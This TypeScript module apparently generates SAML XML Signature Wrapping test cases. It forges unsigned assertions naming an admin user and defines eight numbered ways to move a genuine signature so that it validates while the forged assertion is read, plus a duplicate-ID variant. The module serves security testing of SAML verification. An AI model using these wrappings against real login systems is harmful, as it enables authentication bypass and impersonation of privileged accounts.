import { answerXml, assertionXml, responseXml, type AnswerParts } from './answer.js';
import { ADMIN } from './trial.js';

const SIGNATURE = /<(?:\w+:)?Signature [\s\S]*?<\/(?:\w+:)?Signature>/;
const ASSERTION = /<saml:Assertion [\s\S]*<\/saml:Assertion>/;

/** The assertion that an attacker would have believed: another person under another id, unsigned. */
function evilParts(parts: AnswerParts, assertionId = '_evil'): AnswerParts {
  return { ...parts, assertionId, nameId: ADMIN, signAssertion: null, signResponse: null };
}

export function evilAssertion(parts: AnswerParts, assertionId?: string): string {
  return assertionXml(evilParts(parts, assertionId));
}

/** The original assertion out of a control, signature and all. */
export function assertionOf(control: string): string {
  return ASSERTION.exec(control)?.[0] ?? '';
}

export function signatureOf(element: string): string {
  return SIGNATURE.exec(element)?.[0] ?? '';
}

export function withoutSignature(element: string): string {
  return element.replace(SIGNATURE, '');
}

function inside(element: string, content: string): string {
  return element.replace(/<\/[\w:]+>$/, (end) => content + end);
}

/** The control's response around another content; a signature of the response stays where it is. */
function around(control: string, content: string): string {
  return control.replace(ASSERTION, () => content);
}

/** The eight classical ways to have one element verified and another one read, by number. */
export const WRAPPINGS: Readonly<Record<number, (control: string, parts: AnswerParts) => string>> = {
  1: (control, parts) => {
    const signature = signatureOf(control);
    const evil = responseXml({ ...evilParts(parts), responseId: '_evil-response' }, evilAssertion(parts));
    return evil.replace('<samlp:Status>', () => inside(signature, withoutSignature(control)) + '<samlp:Status>');
  },
  2: (control, parts) => {
    const evil = responseXml({ ...evilParts(parts), responseId: '_evil-response' }, evilAssertion(parts));
    return evil.replace('<samlp:Status>', () => withoutSignature(control) + signatureOf(control) + '<samlp:Status>');
  },
  3: (control, parts) => around(control, evilAssertion(parts) + assertionOf(control)),
  4: (control, parts) => around(control, inside(evilAssertion(parts), assertionOf(control))),
  5: (control, parts) => {
    const original = assertionOf(control);
    return around(control, signedAs(evilAssertion(parts), signatureOf(original)) + withoutSignature(original));
  },
  6: (control, parts) => {
    const original = assertionOf(control);
    const signature = inside(signatureOf(original), withoutSignature(original));
    return around(control, signedAs(evilAssertion(parts), signature));
  },
  7: (control, parts) =>
    around(control, `<samlp:Extensions>${evilAssertion(parts)}</samlp:Extensions>${assertionOf(control)}`),
  8: (control, parts) => {
    const original = assertionOf(control);
    const object = `<Object>${withoutSignature(original)}</Object>`;
    return around(control, signedAs(evilAssertion(parts), inside(signatureOf(original), object)));
  },
};

function signedAs(assertion: string, signature: string): string {
  return assertion.replace('</saml:Issuer>', (issuer) => issuer + signature);
}

/** One answer with the assertions of both, the attacker's with the id of the original. */
export function withTwin(parts: AnswerParts, where: 'before' | 'behind'): string {
  const [good, evil] = [assertionXml(parts), evilAssertion(parts, parts.assertionId)];
  return around(answerXml(parts), where === 'before' ? evil + good : good + evil);
}
